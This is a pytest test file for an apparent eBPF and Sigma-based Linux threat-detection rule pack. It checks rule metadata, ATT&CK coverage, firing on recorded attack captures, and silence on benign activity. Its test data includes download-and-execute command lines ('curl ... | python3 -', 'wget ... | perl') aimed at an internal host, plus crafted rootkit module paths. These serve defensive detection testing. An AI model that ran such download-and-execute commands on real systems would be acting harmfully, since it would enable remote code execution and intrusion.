"""The bundled rule pack (src/provarmor/data/rules) against real captures.

Every rule must load, carry complete metadata and resolvable ATT&CK tags, fire on the capture
of its behaviour recorded on a real machine with the eBPF sensor (tests/data/rules, see its
README), and stay silent (or only informational) on a capture of ordinary admin and
developer work. The pack as a whole covers at least 60 techniques and every Linux tactic.
"""

from __future__ import annotations

import datetime
import gzip
import json
import uuid
from collections import Counter
from functools import cache
from pathlib import Path

import msgspec
import pytest
import yaml

from provarmor.detection.engine import detect
from provarmor.detection.sigma.checker import check_rules
from provarmor.detection.sigma.detector import SigmaDetector
from provarmor.detection.sigma.loader import bundled_rules, load_rule_paths
from provarmor.detection.sigma.ruleset import RuleSet, build_ruleset
from provarmor.model.actions import Action
from provarmor.model.alert import Alert
from provarmor.model.attack import load_attack_table
from provarmor.model.event import Event, User
from provarmor.testing.factories import make_event

CAPTURES = Path(__file__).resolve().parents[2] / "data" / "rules"
MANIFEST = json.loads((CAPTURES / "manifest.json").read_text())
CASES = sorted(name for name in MANIFEST["cases"] if name != "benign")
RULE_FILES = sorted(bundled_rules().rglob("*.yml"))

CRAFTED = {
    "kernel_module_loaded": "this VM's kernel has module loading compiled out: there is no "
    "init_module/finit_module syscall (nor tracepoint) and no kmod tools, so a load cannot "
    "even be attempted; tested on factory events below",
}
"""Rules tested on crafted events instead of a capture, and why (also in the README)."""
HOST_LOGS = Path(__file__).resolve().parents[2] / "data" / "hostlogs"
HOST_LOG_CAPTURE = HOST_LOGS / "journal.json"
HOST_LOG_RULES = {
    "ssh_authentication_failure",
    "ssh_login_success",
    "ssh_brute_force",
    "ssh_password_spraying",
    "ssh_login_after_brute_force",
    "sudo_not_in_sudoers",
    "sudo_password_failures",
    "new_uid_zero_account",
    "account_created_in_log",
    "ssh_login_by_new_account",
}
"""Rules over host logs: their capture is a real journal (tests/data/hostlogs), not eBPF."""

REQUIRED_TACTICS = {
    "execution",
    "persistence",
    "privilege-escalation",
    "stealth",
    "defense-impairment",
    "credential-access",
    "discovery",
    "lateral-movement",
    "collection",
    "command-and-control",
    "exfiltration",
    "impact",
}
FOLDER_TACTICS = {
    "initial_access": {"initial-access"},
    "execution": {"execution"},
    "persistence": {"persistence"},
    "privilege_escalation": {"privilege-escalation"},
    "defense_evasion": {"stealth", "defense-impairment"},
    "credential_access": {"credential-access"},
    "discovery": {"discovery"},
    "lateral_movement": {"lateral-movement"},
    "collection": {"collection"},
    "command_and_control": {"command-and-control"},
    "exfiltration": {"exfiltration"},
    "impact": {"impact"},
}
LEVELS = {"informational", "low", "medium", "high", "critical"}


@cache
def documents() -> dict[str, dict[str, object]]:
    """Rule name -> its YAML document (one per file)."""
    found: dict[str, dict[str, object]] = {}
    for path in RULE_FILES:
        (document,) = list(yaml.safe_load_all(path.read_text()))
        found[path.stem] = {**document, "_folder": path.parent.name}
    return found


@cache
def ruleset() -> RuleSet:
    built, report = build_ruleset(load_rule_paths([bundled_rules()]), attack=load_attack_table())
    assert not report.errors and not report.unsupported
    return built


@cache
def key_of() -> dict[str, str]:
    """Rule name -> the key alerts and statistics use (its id)."""
    return {name: str(document["id"]) for name, document in documents().items()}


@cache
def events_of(name: str) -> tuple[Event, ...]:
    raw = gzip.decompress((CAPTURES / MANIFEST["cases"][name]["file"]).read_bytes())
    decoder = msgspec.json.Decoder(Event)
    return tuple(decoder.decode(line) for line in raw.splitlines() if line)


def run(events: tuple[Event, ...] | list[Event]) -> tuple[SigmaDetector, list[Alert]]:
    detector = SigmaDetector(ruleset())
    return detector, list(detect([detector], events))


def fired(detector: SigmaDetector, alerts: list[Alert]) -> set[str]:
    """Keys of the rules that matched (silent correlation inputs included) or alerted."""
    matched = {key for key, count in detector.stats.matches.items() if count}
    return matched | {alert.rule_id for alert in alerts}


def technique_tags(document: dict[str, object]) -> list[str]:
    tags = document["tags"]
    assert isinstance(tags, list)
    return [tag for tag in tags if tag.startswith("attack.t")]


def tactic_tags(document: dict[str, object]) -> list[str]:
    tags = document["tags"]
    assert isinstance(tags, list)
    return [tag.removeprefix("attack.") for tag in tags if not tag.startswith("attack.t")]


# -- loading and metadata -------------------------------------------------------------------


def test_rules_check_loads_every_bundled_rule():
    report = check_rules(bundled_rules())
    assert report.total == len(RULE_FILES) >= 100
    assert len(report.loaded) == report.total
    assert report.errors == [] and report.unsupported == [] and report.warnings == []


@pytest.mark.parametrize("path", RULE_FILES, ids=lambda path: path.stem)
def test_rule_metadata_is_complete(path):
    document = documents()[path.stem]
    assert document["name"] == path.stem
    assert uuid.UUID(str(document["id"])).version == 4
    assert document["author"] == "ProvArmor"
    assert datetime.date.fromisoformat(str(document["date"])) <= datetime.date.today()
    assert document["level"] in LEVELS
    assert str(document["title"]).strip() and len(str(document["description"])) > 40
    assert document["falsepositives"]
    assert technique_tags(document), "no ATT&CK technique tag"
    tactics = set(tactic_tags(document))
    assert tactics & FOLDER_TACTICS[str(document["_folder"])], tactics


def test_rule_ids_and_names_are_unique():
    ids = Counter(str(document["id"]) for document in documents().values())
    assert [rule_id for rule_id, count in ids.items() if count > 1] == []
    assert len(documents()) == len(RULE_FILES)


def test_every_attack_tag_resolves_in_the_packaged_table():
    table = load_attack_table()
    for name, document in documents().items():
        tags = [str(tag) for tag in document["tags"]]  # type: ignore[attr-defined]
        resolved = table.resolve_tags(tags)
        assert resolved.unknown == (), name
        assert len(resolved.techniques) == len(technique_tags(document)), name
        assert len(resolved.tactics) == len(tactic_tags(document)), name


def test_pack_covers_sixty_techniques_and_every_tactic():
    table = load_attack_table()
    techniques: set[str] = set()
    tactics: Counter[str] = Counter()
    for document in documents().values():
        for tag in technique_tags(document):
            entry = table.technique(tag.removeprefix("attack."))
            assert entry is not None
            techniques.add(min(entry.id, entry.same_as or entry.id))
        tactics.update(tactic_tags(document))
    assert len(techniques) >= 60, sorted(techniques)
    assert set(tactics) >= REQUIRED_TACTICS, REQUIRED_TACTICS - set(tactics)


# -- captures -------------------------------------------------------------------------------


def test_every_rule_has_a_capture_or_is_listed_as_crafted():
    expected = {name for case in MANIFEST["cases"].values() for name in case["expect"]}
    assert set(documents()) - expected == set(CRAFTED) | HOST_LOG_RULES
    assert expected <= set(documents())


def test_captures_are_real_ebpf_recordings():
    for name in [*CASES, "benign"]:
        events = events_of(name)
        assert events, name
        assert {event.event.dataset for event in events} == {"ebpf"}, name
        assert not [event for event in events if event.event.action is Action.GAP], name


@pytest.mark.parametrize("case", CASES)
def test_rules_fire_on_the_capture_of_their_behaviour(case):
    detector, alerts = run(events_of(case))
    keys = key_of()
    missing = [
        name
        for name in MANIFEST["cases"][case]["expect"]
        if keys[name] not in fired(detector, alerts)
    ]
    assert missing == []


@pytest.mark.parametrize(
    ("case", "inputs", "correlation"),
    [
        ("port_scan", "outbound_connection_attempt", "port_scan_connections"),
        ("ransomware_rename", "file_renamed_to_ransom_extension", "ransom_extension_rename_burst"),
    ],
)
def test_correlation_inputs_stay_silent_and_the_correlation_alerts(case, inputs, correlation):
    detector, alerts = run(events_of(case))
    keys = key_of()
    assert detector.stats.matches[keys[inputs]] >= 10
    assert [alert for alert in alerts if alert.rule_id == keys[inputs]] == []
    firings = [alert for alert in alerts if alert.rule_id == keys[correlation]]
    assert firings and all(alert.count >= 10 for alert in firings)
    assert len({alert.process_entity_ids for alert in firings}) == 1


def test_pack_is_silent_or_informational_on_the_benign_capture():
    events = events_of("benign")
    assert len(events) > 5000
    _, alerts = run(events)
    loud = Counter(alert.rule_title for alert in alerts if alert.level != "informational")
    assert loud == Counter()
    informational = Counter(alert.rule_title for alert in alerts)
    assert set(informational) <= {
        str(document["title"])
        for document in documents().values()
        if document["level"] == "informational"
    }


def test_host_log_rules_fire_on_the_real_journal_capture():
    from provarmor.sources.base import HostContext, IngestReport
    from provarmor.sources.hostlog import read_journal

    report = IngestReport(source=str(HOST_LOG_CAPTURE))
    detector, alerts = run(list(read_journal(HOST_LOG_CAPTURE, report=report, host=HostContext())))
    keys = key_of()
    assert [name for name in HOST_LOG_RULES if keys[name] not in fired(detector, alerts)] == []
    loud = {alert.rule_id for alert in alerts}
    assert keys["ssh_authentication_failure"] not in loud  # a silent correlation input


@pytest.mark.parametrize("name", ["benign-journal.json", "benign-auth.log"])
def test_host_log_rules_are_silent_or_informational_on_ordinary_logins_and_sudo(name):
    from provarmor.sources.base import HostContext, IngestReport
    from provarmor.sources.registry import IMPORTERS

    path = HOST_LOGS / name
    importer = IMPORTERS["journal" if name.endswith(".json") else "syslog"]
    events = list(importer(path, report=IngestReport(source=str(path)), host=HostContext()))
    _, alerts = run(events)
    assert Counter(alert.rule_title for alert in alerts if alert.level != "informational") == {}
    logins = [alert for alert in alerts if alert.rule_id == key_of()["ssh_login_success"]]
    assert len(logins) == 4  # three password logins (one after a typo) and a key login


# -- rules tested on crafted events ---------------------------------------------------------


def _module_load(path: str, *, exe: str) -> Event:
    event = make_event(Action.MODULE_LOAD, path=path, exe=exe, outcome="failure")
    process = msgspec.structs.replace(event.process, user=User(id="0"))
    return msgspec.structs.replace(event, process=process)


@pytest.mark.parametrize(
    ("path", "exe", "alerts"),
    [
        ("/tmp/.x/rootkit.ko", "/usr/bin/python3.11", 1),
        ("/tmp/.x/rootkit.ko", "/usr/bin/kmod", 1),
        ("init_module:81920", "/usr/bin/kmod", 1),
        ("/lib/modules/6.1.0/kernel/fs/ext4/ext4.ko", "/usr/bin/python3.11", 1),
        ("/lib/modules/6.1.0/kernel/fs/ext4/ext4.ko", "/usr/bin/kmod", 0),
        ("/lib/modules/6.1.0/kernel/drivers/net/tun.ko", "/usr/lib/systemd/systemd-udevd", 0),
    ],
)
def test_kernel_module_rule_on_crafted_module_loads(path, exe, alerts):
    _, raised = run([_module_load(path, exe=exe)])
    key = key_of()["kernel_module_loaded"]
    assert [alert.rule_id for alert in raised if alert.rule_id == key] == [key] * alerts


@pytest.mark.parametrize(
    ("command_line", "alerts"),
    [
        ("sh -c curl -s http://10.213.0.9:8443/assets/w3r9 | /usr/bin/python3 -", 1),
        ("sh -c curl -s http://10.213.0.9/a | python3", 1),
        ("sh -c wget -qO- http://10.213.0.9/a | perl", 1),
        ("sh -c curl -s http://10.213.0.9/a | sh", 1),
        ("sh -c curl -s http://127.0.0.1:8000/api | python3 -m json.tool", 0),
        ("sh -c curl -s http://127.0.0.1:8000/api | python3 -c 'import json, sys'", 0),
        ("sh -c curl -s http://127.0.0.1:8000/api | python3 parse.py", 0),
    ],
)
def test_a_download_piped_into_an_interpreter_reading_its_program(command_line, alerts):
    """The capture covers ``curl | sh``; a download piped into an interpreter that reads its
    program from standard input is the same act (the web shell's ``curl URL | python3 -``
    implant); one that is given a script, ``-c`` or ``-m`` reads the download as data."""
    event = make_event(Action.EXEC, exe="/bin/sh", args=tuple(command_line.split(" ")))
    _, raised = run([event])
    key = key_of()["download_piped_to_shell"]
    assert [alert.rule_id for alert in raised if alert.rule_id == key] == [key] * alerts


def test_an_admin_ssh_session_that_accepts_new_host_keys_raises_no_incident(data_dir):
    """The lab's ssh-admin workload, recorded beside an attack on the shared machine: ssh and
    scp with StrictHostKeyChecking=accept-new (a changed host key is still refused and the new
    one recorded: host key checking is on) into the administration host, sudo -n id, df, ps
    there. It made one false incident in every attack run's background."""
    from provarmor.evaluation.dataset import load_dataset
    from provarmor.pipeline.assembly import AnalysisPlan, build_analysis, compile_rules

    session = load_dataset(data_dir / "lab" / "shared-machine" / "ssh-admin")
    commands = {event.process.command_line for event in session.events()}
    assert any(
        c.startswith("ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new") for c in commands
    )
    assert any(c.startswith("sudo -n id") for c in commands)  # run on the administration host
    result = build_analysis(AnalysisPlan(ruleset=compile_rules([bundled_rules()]))).collect(
        session.events()
    )
    assert "d8ed2c07-41f9-45c9-a02c-085e0be1b15b" not in {alert.rule_id for alert in result.alerts}
    assert list(result.incidents()) == []
